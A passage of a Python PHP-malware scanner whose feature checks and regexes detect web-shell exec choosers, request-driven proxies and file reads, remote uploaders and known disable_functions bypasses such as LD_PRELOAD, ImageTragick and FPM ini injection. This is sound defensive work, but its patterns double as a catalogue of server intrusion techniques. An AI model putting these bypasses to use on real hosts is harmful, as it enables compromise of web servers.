        args = code[opens + 1 : opens + 1 + close_paren(code[opens + 1 : opens + 4001])]
        payload = [args]
        for name, value in holders.items():
            if re.search(rb"\$" + re.escape(name) + rb"(?![\w\x80-\xff])", args) is not None:
                payload.append(value)
        carried = b"\x00".join(payload)
        if _DB_PASSWORD.search(carried) is not None and _DB_OTHER.search(carried) is not None:
            shown = code[start : start + 100]
            if shown.count(b"\x01") % 2:  # a literal's mark cut in half: up to its start
                shown = shown[: shown.rfind(b"\x01")]
            return Hit(ctx.line_of_code(start), excerpt(ctx.restore(shown)))
    return None


_EXEC_NAME_VALUES = frozenset(
    (*EXEC_NAMES_B, b"shell_exec", b"eval", b"assert", b"create_function")
)


# the same test as "one of _EXEC_NAME_VALUES occurs": "shell_exec" and "pcntl_exec" hold "exec"
_EXEC_NAME_WORDS = tuple(sorted(n for n in _EXEC_NAME_VALUES if n == b"exec" or b"exec" not in n))


def _constant_arg(ctx: Ctx, arg: bytes) -> bool:
    """``arg`` is one literal without variables written inside it (or nothing)."""
    arg = arg.strip()
    if not arg:
        return True
    lit = PLACEHOLDER.fullmatch(arg)
    if lit is None:
        return False
    idx = int(lit.group(1))
    return ctx.lx.kinds[idx] in ("sq", "nowdoc") or b"$" not in ctx.lx.raw_strings[idx]


@feature("exec_name_variable")
def _exec_name_variable(ctx: Ctx, rule: Rule) -> Hit | None:
    """A variable set to the name of a shell-execution function (``$f = "passthru";``) is
    called with a non-literal argument (``$f($cmd)``): the fallback chooser of web shells."""
    if "varcall" in ctx.cache and ctx.cache["varcall"] is None:
        return None  # known already: no variable is called
    text = string_text(ctx)
    if not any(find(text, n) >= 0 for n in _EXEC_NAME_WORDS):
        return None
    code = ctx.code
    first = first_varcall(ctx)
    if first is None:
        return None
    names: dict[bytes, int] = {}
    for m in varcalls(code, 500, pos=first.start()):
        tail = code[m.end() : m.end() + 40].lstrip()
        if tail[:1] in (b")", b""):
            continue  # no argument
        if all(_constant_arg(ctx, a) for a in top_args(code[m.end() : m.end() + 300])):
            continue  # constant arguments only: create_function('', 'return 1;') is no shell
        names.setdefault(m.group(1), m.start())
        if len(names) >= 20:
            break
    for var in sorted(names):
        for _, am in var_assigns(code, var, TAIL_LITERAL, 10):
            if ctx.lx.value(int(am.group(1))).lower().strip() in _EXEC_NAME_VALUES:
                pos = names[var]
                return Hit(ctx.line_of_code(pos), ctx.excerpt_code(pos, pos + 80))
    return None


_FORM_INPUT = tight(
    rb"[\s@(]*(?:" + KEEP + rb"\s*\(\s*)*(?:\$_(?:get|post|request|cookie)\b|"
    rb"\$http_(?:get|post|cookie)_vars\b)"
)


def _from_form(ctx: Ctx, arg: bytes, follow: bool = True) -> bool:
    """``arg`` is request form input, or a variable assigned from it, or a parameter of the
    file's own function that a call of it passes such input (``httpcopy($_GET['url'])``):
    the whole name, not a part appended to a fixed folder (uploads excluded)."""
    if _FORM_INPUT.match(arg):
        return True
    # a name that starts with a variable: that variable says where ("$dir . $img" reads a
    # file of the folder the script put in $dir, whatever $img holds)
    head = _HEAD_VAR.match(arg)
    names = [head.group(1)] if head is not None else sorted(set(VAR.findall(arg)))[:4]
    for var in names:
        if var.startswith(b"_"):
            continue
        for _, am in var_assigns(ctx.code, var, TAIL_RHS, 10):
            if _FORM_INPUT.match(am.group(1)):
                return True
        if follow and any(
            _from_form(ctx, given, False) for given in param_arguments(ctx).get(var, ())[:8]
        ):
            return True
    return False


_HEAD_VAR = tight(rb"[\s@(]*(?:" + KEEP + rb"\s*\(\s*)*\$(" + NAME_P + rb")")


# a literal that starts a name (a file's or a URL's), then what follows it
_LEAD_LITERAL = tight(rb"[\s@]*\x01(\d+)\x01")
# a web address whose scheme and host are written out and end at a "/" or "?": what is
# joined after it can only name a path or a query on that host ("@other.example/" or
# ".other.example" after a bare host would name another one)
_FIXED_WEB_HOST = tight(
    rb"\s*https?://[a-z0-9](?:[a-z0-9-]{0,62}[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9-]{0,62}[a-z0-9])?)*"
    rb"(?::\d{1,5})?[/?]"
)
# any scheme: php://filter, file://, compress.zlib://, http:// with the host still to come
_URL_SCHEME = tight(rb"\s*[a-z][a-z0-9+.-]{0,30}://")
# operators that choose between values or compare them: the literal is then not the start
# of the name fetched ('https://a.example/' === $x ? '' : $_GET['u'])
_CHOICE_OPS = tight(rb"[?:=|&<>]|\b(?:and|or|xor)\b")
# request input written directly (not through a variable) anywhere in an expression
_FORM_INPUT_ANYWHERE = tight(
    rb"\$_(?:get|post|request|cookie)\b|\$http_(?:get|post|cookie)_vars\b"
)


# a number made of anything: a cast or a call that returns an int or a float, whose
# parenthesis (or variable) follows; what it holds cannot name another host or a file
_NUMBER_OF = tight(
    rb"(?:\(\s*(?:int|integer|float|double|bool|boolean)\s*\)\s*|"
    rb"\b(?:intval|floatval|absint|boolval|count|strlen)\s*(?=\())"
)
_NUMBER_VAR = tight(rb"\$" + NAME_P + rb"(?:\[[^\]\[]{0,80}\])*")


def _numbers_dropped(rest: bytes) -> bytes:
    """``rest`` with each number made of a value (``(int) ($_GET['id'] ?? 0)``,
    ``intval($_GET['p'])``) written as ``0``: its choice operators and request input only
    ever give a number."""
    out, at = [], 0
    for _ in range(20):
        m = _NUMBER_OF.search(rest, at)
        if m is None:
            break
        end = m.end()
        if rest.startswith(b"(", end):
            end = end + 1 + close_paren(rest[end + 1 : end + 2001]) + 1
        elif (v := _NUMBER_VAR.match(rest, end)) is not None:
            end = v.end()
        else:
            out.append(rest[at:end])
            at = end
            continue
        out += [rest[at : m.start()], b"0"]
        at = end
    return b"".join(out) + rest[at:]


def _lead_literal_text(ctx: Ctx, arg: bytes) -> tuple[bytes, bytes] | None:
    """``(text, rest)`` when ``arg`` starts with a literal that is joined (".") to what
    follows, or stands alone: the literal as PHP writes it (a double-quoted one with its
    ``$var`` still in it), lower-cased, and the code after it."""
    m = _LEAD_LITERAL.match(arg)
    if m is None:
        return None
    rest = arg[m.end() :]
    if rest.strip() and not rest.lstrip().startswith(b"."):
        return None
    idx = int(m.group(1))
    if idx >= len(ctx.lx.kinds):
        return None
    plain = ctx.lx.kinds[idx] in ("sq", "nowdoc")
    text = ctx.lx.value(idx) if plain else ctx.lx.raw_strings[idx]
    return text[:300].lower(), _numbers_dropped(rest)


def _fixed_host_target(ctx: Ctx, arg: bytes) -> bool:
    """Whether ``arg`` fetches from a web host the script names itself: it starts with a
    literal ``http(s)://host/`` (or ``host?``) with nothing interpolated into the host, and
    only joins more to it (no operator that could pick another value). The request then
    fills a path or a query of that service (a chat widget's server id, the address an IP
    lookup asks about): no open proxy, and no file of the site read through a wrapper."""
    got = _lead_literal_text(ctx, arg)
    if got is None:
        return False
    text, rest = got
    return _FIXED_WEB_HOST.match(text) is not None and _CHOICE_OPS.search(rest) is None


def _request_after_scheme(ctx: Ctx, arg: bytes) -> bool:
    """Whether ``arg`` starts with a literal naming a scheme (``'http://'``,
    ``'php://filter/resource='``) whose host or file is not fixed, and request input is
    joined to it directly (``'https://' . $_GET['host'] . '/feed'``)."""
    got = _lead_literal_text(ctx, arg)
    if got is None:
        return False
    text, rest = got
    return _URL_SCHEME.match(text) is not None and _FORM_INPUT_ANYWHERE.search(rest) is not None


# a local folder or name that starts a path: __DIR__, dirname(__FILE__), a literal (no
# scheme: _request_after_scheme judges those), then any more literals joined to it
_LOCAL_HEAD = tight(
    rb"[\s@(]*(?:__dir__|dirname\s*\(\s*__file__\s*\)|\x01(\d+)\x01)"
    rb"(?:\s*\.\s*\x01(\d+)\x01)*\s*\.\s*"
)
# request input (or a variable) as the last piece of a path: nothing joined after it
_TAIL_INPUT = tight(
    rb"(?:" + KEEP + rb"\s*\(\s*)*(?:\$_(?:get|post|request|cookie)\s*\[[^\]]{1,40}\]|"
    rb"\$(" + NAME_P + rb"))[\s)]*"
)
def _local_path_request(ctx: Ctx, arg: bytes, follow: bool = True) -> bool:
    """``arg`` is a local folder or name with request input joined straight after it as the
    path's last piece (``'uploads/' . $_GET['f']``, ``__DIR__ . '/' . $p`` with ``$p =
    $_REQUEST['p']``), or a variable set once to such a path: ``../`` in the input reads any
    file of the account (a file-disclosure hole). Not the input cut by basename(), checked
    against the script's own list or a pattern, or closed by an extension the script adds
    ('pages/' . $p . '.html' reads only its pages)."""
    v = VAR.fullmatch(arg.strip())
    if v is not None:
        if not follow:
            return False
        given = var_assigns(ctx.code, v.group(1), TAIL_RHS, 3)
        return len(given) == 1 and _local_path_request(ctx, given[0][1].group(1), False)
    head = _LOCAL_HEAD.match(arg)
    if head is None:
        return False
    value = ctx.lx.value
    for idx in (head.group(1), head.group(2)):
        if idx is not None and value(int(idx)).find(b"://") >= 0:
            return False
    tail = _TAIL_INPUT.fullmatch(arg, head.end())
    if tail is None:
        return False
    var = tail.group(1)
    if var is None:
        return True
    if var.startswith(b"_"):
        return False
    given = var_assigns(ctx.code, var, TAIL_RHS, 10)
    return (
        len(given) >= 1
        and all(_FORM_INPUT.match(a.group(1)) is not None for _, a in given)
        and not checked_value(ctx.code, var)
    )


def _fetches_request(ctx: Ctx, arg: bytes) -> bool:
    """The fetch target ``arg`` is the request's (:func:`_from_form`), also through a
    double-quoted string (``"https://$host/feed"``) or a scheme joined to request input, or
    a local path that request input ends (:func:`_local_path_request`), but not a path on a
    web host the script fixes (:func:`_fixed_host_target`)."""
    if _fixed_host_target(ctx, arg):
        return False
    if _from_form(ctx, arg) or _request_after_scheme(ctx, arg):
        return True
    if _local_path_request(ctx, arg):
        return True
    if STR_MARK in arg:
        inner = interpolated(ctx, arg)
        return inner != arg and _from_form(ctx, inner.strip())
    return False


@feature("fetch_request")
def _fetch_request(ctx: Ctx, rule: Rule) -> Hit | None:
    """A file or URL whose name comes from the request is read or fetched: an open proxy or
    click-fraud relay (fetch what the caller names), or an arbitrary file read. Not a path
    or query on a web host the script writes out itself (:func:`_fixed_host_target`)."""
    code = ctx.code
    if not has_word(ctx, b"$_") and not has_word(ctx, b"$http_"):
        return None
    for start, args in calls_to(ctx, FETCH_CALLS, 50):
        if code.startswith(b"fopen", start) and _write_mode(ctx, top_args(args)):
            continue  # opened to be written: nothing is read or fetched through it
        if _fetches_request(ctx, first_arg(args)):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    if has_word(ctx, b"curlopt_url"):
        for m in CURLOPT_URL.finditer(code):
            if _fetches_request(ctx, first_arg(m.group(1))):
                return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
    return None


@feature("decode_request")
def _decode_request(ctx: Ctx, rule: Rule) -> Hit | None:
    """Request input run through a decoder (``base64_decode($_POST['c'])``): commands and
    mail sent encoded to a backdoor. Not when the decoded value is only an address fetched
    (``curl_init(base64_decode($_GET['u']))``, or a variable used for nothing else): a proxy
    or feed reader that takes its URL base64-encoded in the query, which the fetch rules
    judge (an open proxy is a hole, not a backdoor)."""
    assert rule.regex is not None
    for m in bounded_finditer(rule.regex, ctx.code, 20, first=ctx.first):
        if not _decoded_url_only(ctx, m.start()):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end()))
    return None


# a fetch call (or a call of one of the file's own functions) just opened before an argument
_CALL_OPEN = tight(rb"([a-z_][\w]*)\s*\(\s*@?\s*$")


def _fetch_argument(ctx: Ctx, pos: int) -> bool:
    """Whether offset ``pos`` starts the first argument of a fetch call (file_get_contents,
    curl_init, readfile...), of ``curl_setopt($ch, CURLOPT_URL, ...)``, or of a function of
    the file whose body fetches."""
    before = ctx.code[max(0, pos - 60) : pos]
    call = _CALL_OPEN.search(before)
    if call is not None:
        name = call.group(1)
        return name in FETCH_CALLS or name in _fetching_functions(ctx)
    return re.search(rb"curlopt_url\s*,\s*@?\s*$", before) is not None


_FUNC_BODY = tight(rb"function\s+&?\s*([a-z_]\w*)\s*\([^)]{0,200}\)[^{;]{0,60}\{")


def _fetching_functions(ctx: Ctx) -> set[bytes]:
    """Names of the file's own functions whose body fetches a URL (curl_init, curl_exec,
    file_get_contents), as a proxy's ``curl_file_get_contents($url)`` does."""
    found = ctx.cache.get("fetching-functions")
    if found is None:
        found = set()
        code = ctx.code
        for m in itertools.islice(_FUNC_BODY.finditer(code), 200):
            body = code[m.end() : m.end() + close_paren(code[m.end() : m.end() + 4000], 123, 125)]
            if any(find(body, w) >= 0 for w in (b"curl_init", b"curl_exec", b"file_get_contents")):
                found.add(m.group(1))
        ctx.cache["fetching-functions"] = found
    return found  # type: ignore[no-any-return]


def _decoded_url_only(ctx: Ctx, pos: int) -> bool:
    """Whether the decoder call at ``pos`` feeds nothing but a fetch: it is the first
    argument of one, or the whole value of a variable each other mention of which is."""
    if _fetch_argument(ctx, pos):
        return True
    code = ctx.code
    name = variable_holding(code, pos)
    if name is None:
        return False  # not set to a variable, or the decoded value is part of something larger
    uses = 0
    for at in var_mentions(code, name):
        tail = code[at + len(name) + 1 : at + len(name) + 13].lstrip()
        if not (tail.startswith(b"=") and not tail.startswith(b"==")):  # not the assignment
            if not _fetch_argument(ctx, at):
                return False
            uses += 1
    return uses > 0


_BASENAME = tight(rb"[\s@(]*basename\s*\(")


def _literal_mode(ctx: Ctx, parts: list[bytes]) -> bytes | None:
    """The mode of an ``fopen()`` call (its arguments ``parts``) when it is a literal,
    lower-cased; None when the file computes it."""
    if len(parts) < 2:
        return None
    lit = PLACEHOLDER.fullmatch(parts[1].strip())
    if lit is None:
        return None
    return ctx.lx.value(int(lit.group(1))).strip().lower()


def _existing_only_mode(ctx: Ctx, parts: list[bytes]) -> bool:
    """The mode of an ``fopen()`` call is a literal that opens only a file that is there
    already ("r", "rb", "r+", "r+b"): it makes no file, so nothing fetched is saved under a
    new name through it (a chat's message buffer read and rewritten in place); and r+ opens
    no web address (the http wrapper reads only, ftp does not both read and write)."""
    mode = _literal_mode(ctx, parts)
    return mode is not None and mode[:1] == b"r"


def _write_mode(ctx: Ctx, parts: list[bytes]) -> bool:
    """The mode of an ``fopen()`` call is a literal that writes and cannot read what was
    there ("w", "wb", "a", "x", "c", "w+", "x+"): no file or URL is read through it."""
    mode = _literal_mode(ctx, parts)
    return mode is not None and (
        mode[:1] in (b"w", b"x") or (mode[:1] in (b"a", b"c") and b"+" not in mode)
    )


_WRITE_TO = tight(rb"(?<![\w$>:])(?:fwrite|fputs)\s*\(\s*\$(" + NAME_P + rb")\s*,")


def _request_text_written(ctx: Ctx) -> Hit | None:
    """A file opened for writing under a name the request gives (``fopen($_POST['f'], 'w')``,
    not inside a folder the script names) and the request's own text written into it: an
    uploader of code that needs no upload form. Not under the site's own login
    (:func:`site_session_gated`): an admin page's editor saving a page module."""
    code = ctx.code
    for start, args in calls_to(ctx, (b"fopen",), 20):
        parts = top_args(args)
        if not _write_mode(ctx, parts) or _own_folder(ctx, parts[0]):
            continue
        if not _from_form(ctx, parts[0]):
            continue
        got = assignment_before(code, start)
        if got is None:
            continue
        for w in itertools.islice(_WRITE_TO.finditer(code, start), 10):
            if w.group(1) != got[0]:
                continue
            call = top_args(code[code.index(b"(", w.start()) + 1 : w.start() + 600])
            data = call[1] if len(call) > 1 else b""
            if not (UIN_RE.search(data) or _from_form(ctx, data)):
                continue
            if site_session_gated(ctx, start):
                break
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


@feature("fetch_request_saved")
def _fetch_request_saved(ctx: Ctx, rule: Rule) -> Hit | None:
    """A small file fetches what the request names (:func:`_fetch_request`) and writes a file
    under a name the request gives, with no folder of its own (``file_put_contents(
    basename($_POST['u']), $data)``): a remote uploader that pulls more code into the site.
    An image proxy prints what it fetched; a site's importer keeps files in a folder. Or it
    writes the request's own text to a file the request names (:func:`_request_text_written`)."""
    if len(ctx.data) > int(rule.params.get("max_size", 4096)):
        return None
    if _fetch_request(ctx, rule) is None:
        return _request_text_written(ctx) if has_word(ctx, b"fopen") else None
    for start, args in calls_to(ctx, (b"file_put_contents", b"fopen", b"copy"), 20):
        parts = top_args(args)
        if ctx.code.startswith(b"fopen", start) and _existing_only_mode(ctx, parts):
            continue  # opened to be read (a download script sends the file it names), or
            # read and rewritten in place (r+): a file that is there already, none made
        path = parts[1] if ctx.code.startswith(b"copy", start) and len(parts) > 1 else parts[0]
        if _own_folder(ctx, path):
            continue  # counts/<name>.txt: a file kept in a folder the script names
        head = _BASENAME.match(path)
        if _from_form(ctx, path[head.end() :] if head is not None else path):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


_LEADING_LITERAL = tight(rb"[\s(]*\x01(\d+)\x01")
_NAMED_FOLDER = tight(rb"(?:\./)?(?!\.\.?/)[\w.-]+/")


def _own_folder(ctx: Ctx, path: bytes) -> bool:
    """Whether a written path starts with a folder the script names in a literal
    (``'counts/' . $file . '.txt'``): the request picks a name in that folder only."""
    m = _LEADING_LITERAL.match(path)
    return m is not None and _NAMED_FOLDER.match(ctx.lx.value(int(m.group(1)))) is not None


# a file read whose whole name is a request field, as it came: readfile($_GET['f'])
_BARE_REQUEST_NAME = tight(
    rb"[\s@(]*(?:" + KEEP + rb"\s*\(\s*)*"
    rb"\$_(?:get|post|request)\s*\[\s*\x01(\d+)\x01\s*\][\s)]*"
)
_SHOWN_BEFORE = tight(rb"(?:echo|print|var_dump|print_r|printf|die|exit)\b[^;{}]{0,60}$")
_URL_CHECKED = tight(
    rb"filter_validate_url|parse_url\s*\(|preg_match\s*\(\s*\x01\d+\x01\s*,"
)
_FILE_READS_SHOWN = (b"file_get_contents", b"readfile", b"file", b"highlight_file", b"show_source")


@feature("file_read_page")
def _file_read_page(ctx: Ctx, rule: Rule) -> Hit | None:
    """A small page that asks for a file's name in its own form and shows that file, whatever
    it is (``var_dump(file_get_contents($_GET['f']))`` under ``<input name='f'>``): a reader
    of the account's files (configs, keys) dropped in the web root. A site reads from its
    own folder (a literal prefix, basename) or checks that a fetched address is a URL."""
    if len(ctx.data) > int(rule.params.get("max_size", 4096)):
        return None
    text = string_text(ctx)
    if find(text, b"<input") < 0 or _URL_CHECKED.search(ctx.code) is not None:
        return None
    for start, args in calls_to(ctx, _FILE_READS_SHOWN, 20):
        m = _BARE_REQUEST_NAME.fullmatch(first_arg(args))
        if m is None:
            continue
        shown = ctx.code.startswith((b"readfile", b"highlight_file", b"show_source"), start)
        if not shown and _SHOWN_BEFORE.search(ctx.code[max(0, start - 80) : start]) is None:
            continue
        key = re.escape(ctx.lx.value(int(m.group(1))).lower())
        asked = re.compile(rb"<input\b[^>\x00]{0,200}\bname\s*=\s*[\"']?" + key + rb"[\"'\s>/]")
        if asked.search(text) is not None:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


_DB_ADMIN_WORDS = (b"show databases", b"show tables", b"show create table", b"drop table",
                   b"mysqldump", b"show processlist", b"show variables", b"mysql_list_dbs",
                   b"mysql_list_tables", b"show table status")  # fmt: skip


_AUTH_WORDS = (b"session_start", b"$_session", b"password_verify", b"current_user_can",
               b"php_auth_user", b"check_admin_referer", b"is_user_logged_in")  # fmt: skip


@feature("db_admin_tool")
def _db_admin_tool(ctx: Ctx, rule: Rule) -> Hit | None:
    """A database administration page (lists databases/tables, dumps them, runs SQL typed in a
    form) with no login of its own: dual-use, but a backdoor to the site's data when dropped
    in a web root."""
    code = ctx.code
    text = string_text(ctx)
    if find(text, b"<form") < 0 and find(text, b"<textarea") < 0:
        return None
    words = sum(1 for w in _DB_ADMIN_WORDS if w in text or w in code)
    if words < 3 or any(w in code for w in _AUTH_WORDS):
        return None
    for start, args in calls_to(ctx, SINK_NAMES["sql"], 100):
        if VAR.match(first_arg(args).strip()):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# the known ways around php.ini's disable_functions / open_basedir, each a call and what in
# its literal text gives it away
_LD_PRELOAD = tight(rb"ld_preload\s*=")
_PROXY_COMMAND = tight(rb"-o\s*proxycommand\s*=")
_FFI_DECL = tight(rb"\b(?:system|popen|execve?|execl|execvp)\s*\(\s*(?:const\s+)?char")
_SENDMAIL_LOG = tight(rb"(?:^|\s)-x\s*\S*\.ph(?:p\d?|tml)\b")
_FFI_CALL = tight(rb"ffi\s*::\s*(cdef|load)\s*\(([^;]{0,300})")
# the programs PHP starts past disable_functions: sendmail (mail() and its kind; error_log()
# of type 1), and iconv() loading a gconv module
_STARTERS = (b"mail", b"mb_send_mail", b"error_log", b"imap_mail", b"iconv", b"iconv_strlen",
             b"iconv_substr", b"mb_convert_encoding")  # fmt: skip
# an environment variable that makes a started program load a library of the attacker's:
# the dynamic loader's preload, glibc's gconv module folder, ImageMagick's delegates file
_LOADER_ENV = tight(rb"ld_preload|gconv_path|magick_configure_path")
# a .htaccess, php.ini or .user.ini line that empties disable_functions or preloads a library
_LIMITS_OFF = tight(
    rb"disable_functions(?:\s*=\s*|\s+)(?:none\b|\"\s*\"|'\s*'|\\n|\n|$)|setenv\s+ld_preload\b"
)
_WRITES = (b"file_put_contents", b"fwrite", b"fputs")
# ini values given to PHP-FPM with a FastCGI request (PHP_VALUE, PHP_ADMIN_VALUE): code run
# first, remote includes allowed, disable_functions emptied, an extension loaded
_FPM_PARAM = tight(rb"\bphp_(?:admin_)?value\b")
_FPM_INI = tight(
    rb"\b(?:auto_prepend_file|auto_append_file|allow_url_include|disable_functions|open_basedir|"
    rb"extension_dir|extension)\s*="
)
_SOCKET_OPENS = (b"fsockopen", b"pfsockopen", b"stream_socket_client", b"socket_connect")
# an ImageMagick vector image whose fill url runs a command (ImageTragick)
_MVG_PIPE = tight(rb"\burl\s*\([^)\x00\n]{0,200}?\|")
_EXEC_LITERALS = frozenset({b"system", b"exec", b"shell_exec", b"passthru", b"popen", b"assert"})
_SQLITE_FUNCTION = tight(
    rb"->\s*(?:sqlitecreatefunction|createfunction)\s*\(\s*\x01\d+\x01\s*,\s*\x01(\d+)\x01"
)


def _literals_in(ctx: Ctx, args: bytes) -> list[bytes]:
    return [ctx.lx.value(int(p.group(1))).lower() for p in PLACEHOLDER.finditer(args)]


def _literals_reaching(ctx: Ctx, args: bytes) -> list[bytes]:
    """The literals of ``args`` and those of what its variables are set to (one step:
    ``$server = "x -oProxyCommand=..." . $c; imap_open('{' . $server . '}', ...)``)."""
    lits = _literals_in(ctx, args)
    for var in VAR.findall(args)[:4]:
        for _pos, m in var_assigns(ctx.code, var, TAIL_RHS, 5):
            lits.extend(_literals_in(ctx, m.group(1)))
    return lits


def _glued_literals(ctx: Ctx) -> bytes:
    """Every literal of the file run together, lower-cased (the first 2,000 of them): a
    name written in pieces (``'LD' . '_PRE' . 'LOAD'``, ``$p .= 'LOAD'``) reads whole."""
    return b"".join(ctx.lx.raw_strings[:2000]).lower()


def _environment_bypass(ctx: Ctx) -> Hit | None:
    """putenv() in a script that names a loader variable (LD_PRELOAD, GCONV_PATH,
    MAGICK_CONFIGURE_PATH, also in pieces or as a table's key handed to putenv() in a loop)
    and starts the program that reads it: sendmail through mail(), mb_send_mail(),
    imap_mail() or error_log(); iconv(); ImageMagick given a delegates file the script
    writes. The library or the delegate runs the attacker's command."""
    if not calls_to(ctx, (b"putenv",), 1):
        return None
    found = search_needing(_LOADER_ENV, _glued_literals(ctx))
    if found is None:
        return None
    if found.group(0) == b"magick_configure_path":
        if string_text(ctx).find(b"<delegate") < 0:
            return None
    elif not calls_to(ctx, _STARTERS, 1):
        return None
    start, _args = calls_to(ctx, (b"putenv",), 1)[0]
    return Hit(ctx.line_of_code(start), f"putenv() of {found.group(0).decode().upper()}")


def _limits_written(ctx: Ctx) -> Hit | None:
    """A line that empties ``disable_functions`` (a php.ini or .user.ini that suPHP/CGI
    hosts read beside the script, a ``php_value`` of a .htaccess) or sets LD_PRELOAD
    (``SetEnv``), written to a file by the script; or an ImageMagick vector image whose
    fill url pipes to a command, written and read by Imagick."""
    for start, args in calls_to(ctx, _WRITES, 40):
        for lit in _literals_reaching(ctx, args):
            if _LIMITS_OFF.search(lit) is not None:
                return Hit(ctx.line_of_code(start), excerpt(lit))
    if has_word(ctx, b"imagick"):
        text = string_text(ctx)
        if text.find(b"graphic-context") >= 0:
            found = search_needing(_MVG_PIPE, text)
            if found is not None:
                return string_hit(ctx, found)
    return None


def _fastcgi_ini(ctx: Ctx) -> Hit | None:
    """A FastCGI request to PHP-FPM made by the script (a socket opened, the
    ``PHP_VALUE``/``PHP_ADMIN_VALUE`` parameter written) that sets the ini values a bypass
    needs (auto_prepend_file, allow_url_include, disable_functions, extension): FPM runs
    code with the limits the attacker chose. A queue client names a script and its body."""
    if not calls_to(ctx, _SOCKET_OPENS, 1):
        return None
    text = string_text(ctx)
    param = search_needing(_FPM_PARAM, text)
    if param is None or search_needing(_FPM_INI, text) is None:
        return None
    return string_hit(ctx, param, span=120)


@feature("disable_functions_bypass")
def _disable_functions_bypass(ctx: Ctx, rule: Rule) -> Hit | None:
    """A known way around ``disable_functions`` (commands run although system() and its kind
    are disabled): LD_PRELOAD set with putenv() so that mail() or error_log() start a
    sendmail that loads the attacker's library; imap_open() with ``-oProxyCommand``; FFI
    declaring system() or popen(); SQLite given system() as an SQL function; sendmail's
    ``-X`` log written into a .php file; the file system's root linked into the site;
    ``open_basedir`` loosened to ``..`` or ``/`` (``ini_set``, then ``chdir('..')``)."""
    code = ctx.code
    checks: list[tuple[bytes, re.Pattern[bytes] | None]] = [
        (b"putenv", _LD_PRELOAD),
        (b"imap_open", _PROXY_COMMAND),
        (b"mail", _SENDMAIL_LOG),
        (b"mb_send_mail", _SENDMAIL_LOG),
        (b"symlink", None),
    ]
    for name, rx in checks:
        if ctx.first(name) < 0:
            continue
        for start, args in calls_to(ctx, (name,), 20):
            if name == b"symlink":
                first = PLACEHOLDER.fullmatch(first_arg(args).strip())
                hit = first is not None and ctx.lx.value(int(first.group(1))).strip() in (
                    b"/", b"/etc/passwd", b"/etc/",
                )  # fmt: skip
            elif name in (b"mail", b"mb_send_mail"):
                parts = top_args(args)
                hit = len(parts) >= 5 and any(
                    rx is not None and rx.search(v) for v in _literals_in(ctx, parts[4])
                )
            else:  # the giveaway in the call or in what one of its variables holds
                hit = rx is not None and any(rx.search(v) for v in _literals_reaching(ctx, args))
            if hit:
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    if ctx.first(b"ffi") >= 0:
        for m in itertools.islice(_FFI_CALL.finditer(code), 10):
            # the declarations glued from pieces or held in a variable ('void *po' . 'pen(...')
            if _FFI_DECL.search(b"".join(_literals_reaching(ctx, m.group(2)))):
                return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end()))
            if m.group(1) == b"load":  # a header file: the declarations the script wrote
                found = search_needing(_FFI_DECL, string_text(ctx))
                if found is not None:
                    return string_hit(ctx, found)
    other = _environment_bypass(ctx) or _limits_written(ctx) or _fastcgi_ini(ctx)
    if other is not None:
        return other
    if ctx.first(b"createfunction") >= 0:
        for m in itertools.islice(_SQLITE_FUNCTION.finditer(code), 10):
            if ctx.lx.value(int(m.group(1))).strip().lower() in _EXEC_LITERALS:
                return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end() + 20))
    if ctx.first(b"ini_set") >= 0:
        # open_basedir loosened to a relative or the root folder, then climbed out of with
        # chdir('..'): the setting checks each new value against the working directory
        for start, args in calls_to(ctx, (b"ini_set",), 20):
            parts = top_args(args)
            key = PLACEHOLDER.fullmatch(parts[0].strip()) if parts else None
            value = PLACEHOLDER.fullmatch(parts[1].strip()) if len(parts) > 1 else None
            if (
                key is not None
                and value is not None
                and ctx.lx.value(int(key.group(1))).strip().lower() == b"open_basedir"
                and ctx.lx.value(int(value.group(1))).strip() in (b"..", b"../", b"/")
            ):
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


_SOCKET_CALLS = (b"fsockopen", b"pfsockopen", b"stream_socket_client", b"socket_connect")
# a request header read from the whole set (apache_request_headers() is getallheaders())
_HEADER_SET = tight(rb"(?:getallheaders|apache_request_headers)\s*\(")
# what a foreach hands its value to (`` as $k => $v)``, `` as &$v)``)
_LOOP_VAR = tight(rb"\sas\s+(?:\$" + NAME_P + rb"\s*=>\s*)?&?\$(" + NAME_P + rb")\s*\)")
# where each match of _LOOP_VAR starts: a blank (``\s`` of a bytes pattern), then "as"
_LOOP_VAR_AT = (b" as", b"\nas", b"\tas", b"\ras", b"\x0bas", b"\x0cas")


@per_file("loop-vars")
def _loop_vars(ctx: Ctx) -> frozenset[bytes]:
    """The variables a ``foreach`` of the code hands values to: every ``$var`` that the loop
    pattern of :func:`_from_visitor` can end on (it holds `` as $var)`` or `` as $k =>
    $var)``), so a variable not among them needs no pattern of its own."""
    if find(ctx.code, b"foreach") < 0:
        return frozenset()
    return frozenset(m.group(1) for m in words_finditer(_LOOP_VAR, ctx.code, _LOOP_VAR_AT))


def _from_visitor(ctx: Ctx, expr: bytes, depth: int = 2) -> bool:
    """``expr`` holds request input: the query, form, cookies, a request header (its
    ``$_SERVER['HTTP_…']`` or an element of getallheaders()/apache_request_headers()), or a
    variable set from one of them (two levels of copies). Remembered per file: a password
    guesser's test asks it of every loop head, and each asks again of the same variables'
    assignments (a large clean file's 40 loops: thousands of walks of "$post" and "$i")."""
    memo: dict[tuple[bytes, int], bool] | None = ctx.cache.get("from-visitor")
    if memo is None:
        memo = ctx.cache["from-visitor"] = {}
    key = (expr, depth)
    found = memo.get(key)
    if found is None:
        found = memo[key] = _from_visitor_once(ctx, expr, depth)
    return found


def _from_visitor_once(ctx: Ctx, expr: bytes, depth: int) -> bool:
    """:func:`_from_visitor`, worked out."""
    if UIN_RE.search(expr) or _HEADER_SET.search(expr) or _server_header(ctx, expr):
        return True
    if depth == 0:
        return False
    expr = _FIXED_LOOKUP.sub(
